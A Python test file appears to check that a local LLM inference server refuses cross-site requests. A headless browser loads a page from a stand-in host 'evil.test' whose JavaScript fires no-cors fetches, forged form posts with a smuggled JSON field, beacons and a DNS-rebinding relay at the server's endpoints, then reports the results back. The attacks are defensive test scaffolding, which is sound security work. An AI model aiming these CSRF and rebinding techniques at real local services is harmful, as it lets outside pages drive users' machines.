# SPDX-License-Identifier: Apache-2.0
"""A page of another site, in a real browser, against a server on the same machine: headless Chromium
shows a page of http://evil.test, a name that leads to 127.0.0.1, and whatever the page tries is seen in
the server's log. Beside it curl and the official client do what they always did. Runs on the pretended
engine."""
import http.server
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import tempfile
import threading

from harness import NotHere, Server, case, check, main, same, skip, wait_until

CHROMIUM = shutil.which("chromium")
if CHROMIUM is None:
    skip("no chromium; tools/check --all installs it")

# What a page can do without being asked: requests that it may send unseen, forms, pieces of documents;
# and what it must ask for first.
PAGE = """<!doctype html><title>page</title><body><script>
const chat = JSON.stringify({messages: [{role: "user", content: "hi"}]});
const results = [];
async function ask(what, path, options) {
  let got;
  try {
    const answer = await fetch(path, options);
    got = answer.type === "opaque" ? "opaque" : answer.status + " " + (await answer.text());
  } catch (error) { got = "failed"; }
  results.push([what, got]);
}
function form(path, enctype) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "f" + Math.random();
  form.target = frame.name; form.method = "POST"; form.action = path; form.enctype = enctype;
  const input = document.createElement("input");
  input.name = '{"timeout_ms":0,"a":"'; input.value = '"}';
  form.append(input); document.body.append(frame, form);
  const loaded = new Promise(done => frame.onload = done);
  form.submit();
  return loaded;
}
function load(tag, path) {
  const element = document.createElement(tag);
  const done = new Promise(next => element.onload = element.onerror = next);
  element.src = path; document.body.append(element);
  return done;
}
(async () => {
  for (const target of TARGETS) {
    for (const path of ["/v1/chat/completions", "/v1/sleep"]) {
      const body = path === "/v1/sleep" ? '{"timeout_ms":0}' : chat, url = target + path;
      await ask("json " + url, url, {method: "POST", body, headers: {"Content-Type": "application/json"}});
      await ask("key " + url, url, {method: "POST", body, headers: {"Content-Type": "application/json",
                                                                    "Authorization": "Bearer none"}});
      await ask("text " + url, url, {method: "POST", body});
      await ask("unseen " + url, url, {method: "POST", body, mode: "no-cors"});
      await ask("untyped " + url, url, {method: "POST", body: new Blob([body]), mode: "no-cors"});
      await ask("cookies " + url, url, {method: "POST", body, mode: "no-cors", credentials: "include"});
      navigator.sendBeacon(url, body);
      navigator.sendBeacon(url, new Blob([body]));
      for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
        await form(url, enctype);
    }
    for (const path of ["/v1/memory", "/metrics", "/health"]) {
      await ask("read " + target + path, target + path);
      await ask("unseen " + target + path, target + path, {mode: "no-cors"});
      for (const tag of ["script", "img", "iframe"]) await load(tag, target + path);
    }
  }
  await fetch("REPORT", {method: "POST", body: JSON.stringify(results), mode: "no-cors"});
})();
</script>"""


class Site:
    """A web server of somebody else at 127.0.0.1: gives the page, and takes what it reports."""

    def __init__(self):
        site = self
        self.report = None

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def answer(self, body):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                self.answer(site.page.encode() if self.path == "/page" else b"")

            def do_POST(self):
                site.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.answer(b"")

        self.http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.http.server_address[1]
        threading.Thread(target=self.http.serve_forever, daemon=True).start()

    def visit(self, host, targets, port=None):
        """Shows the page to a browser as http://HOST:PORT/page; returns what it reports, as a dict."""
        self.page = PAGE.replace("TARGETS", json.dumps(targets)).replace("REPORT", f"http://site.test:{self.port}/")
        self.report = None
        browse(f"http://{host}:{port or self.port}/page", lambda: self.report is not None)
        return dict(self.report)


def browse(url, done, timeout=90):
    """Shows a page until done() says so."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile, \
            open(os.path.join(profile, "log"), "w+") as log:
        # A test may run as root and where there is little shared memory.
        command = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                   "--no-first-run", "--disable-background-networking", f"--user-data-dir={profile}",
                   "--remote-debugging-port=0", "--host-resolver-rules=MAP *.test 127.0.0.1", url]
        process = subprocess.Popen(command, stdout=log, stderr=log, start_new_session=True)
        try:
            wait_until(lambda: done() or process.poll() is not None, f"{url} is done", timeout)
            check(done(), f"the browser ended with {process.poll()}")
        except AssertionError as error:
            log.seek(0)
            raise AssertionError(f"{error}\n{log.read()[-2000:]}")
        finally:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()


def logged(server, path):
    """Method and status of each request for that path in the server's log."""
    return re.findall(rf"^\S+ plimsoll serve: (\w+) {re.escape(path)} (\d+) ", server.text(), re.M)


PATHS = "/v1/chat/completions", "/v1/sleep", "/v1/memory", "/metrics", "/health"


def unharmed(server):
    """The server is awake, and nothing runs."""
    same(server.get("/readyz"), (200, {"status": "ready"}))
    same(server.metric("plimsoll:num_requests_running"), 0)


@case
def a_page_of_another_site_is_refused_everything():
    with Server("-v") as server:
        site = Site()
        targets = [f"http://127.0.0.1:{server.port}", f"http://localhost:{server.port}",
                   f"http://other.test:{server.port}", f"http://evil.test:{server.port}"]
        report = site.visit("evil.test", targets)
        same(sorted(set(report.values())), ["failed", "opaque"])  # it has read nothing
        for path in PATHS:
            found = logged(server, path)
            statuses = {status for _, status in found}
            print(f"      {path}: {len(found)} requests, answered {', '.join(sorted(statuses))}")
            same((path, statuses), (path, {"403"}))
            # More than one kind came through the browser, so that the server refused it.
            check(len(found) >= 3 * len(targets), f"{path}: only {found}")
            if "chat" in path or "sleep" in path:
                same((path, {method for method, _ in found}), (path, {"POST", "OPTIONS"}))
        unharmed(server)


@case
def a_rebound_name_is_refused_everything():
    """The page comes from rebound.test with the server's own port, and then that name leads to the server:
    to the browser all is one origin. A relay stands for the name server that changes its mind."""
    with Server("-v") as server:
        site = Site()
        with socket.create_server(("127.0.0.1", 0)) as relay:
            port = relay.getsockname()[1]

            def pump(a, b):
                try:
                    while data := a.recv(65536):
                        b.sendall(data)
                except OSError:
                    pass
                for s in a, b:
                    try:
                        s.shutdown(socket.SHUT_RDWR)
                    except OSError:
                        pass

            def serve():
                while True:
                    try:
                        client, _ = relay.accept()
                    except OSError:
                        return
                    threading.Thread(target=one, args=(client,), daemon=True).start()

            def one(client):
                # The page is the site's, which closes the connection with it; all else is the server's.
                first = client.recv(65536)
                ours = first.startswith((b"GET /page", b"GET /favicon"))
                upstream = socket.create_connection(("127.0.0.1", site.port if ours else server.port))
                upstream.sendall(first)
                threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
                pump(upstream, client)

            threading.Thread(target=serve, daemon=True).start()
            report = site.visit("rebound.test", [f"http://rebound.test:{port}"], port)
        # The browser holds it for the page's own, so the page may read: that it is refused.
        read = [got for got in report.values() if got not in ("failed", "opaque")]
        check(read and all(got.startswith("403 ") and "host_not_allowed" in got for got in read), report)
        for path in PATHS:
            same((path, {status for _, status in logged(server, path)}), (path, {"403"}))
        unharmed(server)


@case
def a_page_that_the_operator_names_may_chat_but_not_operate():
    """That the pages above could do harm, and that named ones work in a browser."""
    site = Site()
    with Server("-v", "--cors-origins", f"http://evil.test:{site.port}") as server:
        target = f"http://127.0.0.1:{server.port}"
        report = site.visit("evil.test", [target])
        for kind in "json", "key":
            got = report[f"{kind} {target}/v1/chat/completions"]
            check(got.startswith("200 ") and '"chat.completion"' in got, got)
            got = report[f"{kind} {target}/v1/sleep"]
            check(got.startswith("403 ") and "admin_key_needed" in got, got)
        check(report[f"text {target}/v1/chat/completions"].startswith("415 "), report)
        check(report[f"read {target}/v1/memory"].startswith("200 "), report)
        unharmed(server)
    with Server("-v") as server:
        target = f"http://127.0.0.1:{server.port}"
        report = site.visit("also-evil.test", [target])
        same(report[f"json {target}/v1/chat/completions"], "failed")


@case
def curl_is_unaffected():
    if shutil.which("curl") is None:
        raise NotHere("no curl")
    with Server() as server:
        def curl(path, *args, host="127.0.0.1"):
            got = subprocess.run(["curl", "-sS", "-w", "\n%{http_code}", *args, f"http://{host}:{server.port}{path}"],
                                 capture_output=True, text=True, timeout=30)
            same((got.returncode, got.stderr), (0, ""))
            body, status = got.stdout.rsplit("\n", 1)
            return int(status), body

        chat = '{"messages":[{"role":"user","content":"hi"}]}'
        for host in "127.0.0.1", "localhost":
            same(curl("/v1/chat/completions", "-H", "Content-Type: application/json", "-d", chat, host=host)[0], 200)
            same(curl("/v1/chat/completions", "--json", chat, host=host)[0], 200)
            same(curl("/v1/memory", host=host)[0], 200)
        status, body = curl("/v1/chat/completions", "-d", chat)
        same(status, 415)
        check("-H 'Content-Type: application/json'" in json.loads(body)["error"]["message"], body)
        for path in "/v1/sleep", "/v1/wake":
            same(curl(path, "-X", "POST")[0], 200)
            same(curl(path, "--json", "{}")[0], 200)


@case
def the_official_client_is_unaffected():
    python = os.environ.get("PLIMSOLL_E2E_PYTHON", "")
    if not os.path.exists(python):
        raise NotHere("no openai client; tools/check installs it")
    with Server("--api-key", "k") as server:
        program = f"""
import openai
for host in "127.0.0.1", "localhost":
    api = openai.OpenAI(base_url=f"http://{{host}}:{server.port}/v1", api_key="k", max_retries=0)
    model = api.models.list().data[0].id
    messages = [{{"role": "user", "content": "hi"}}]
    assert api.chat.completions.create(model=model, messages=messages).choices[0].message.content
    assert len(list(api.chat.completions.create(model=model, messages=messages, stream=True))) > 2
"""
        got = subprocess.run([python, "-c", program], capture_output=True, text=True, timeout=60)
        same((got.returncode, got.stderr), (0, ""))


if __name__ == "__main__":
    main()
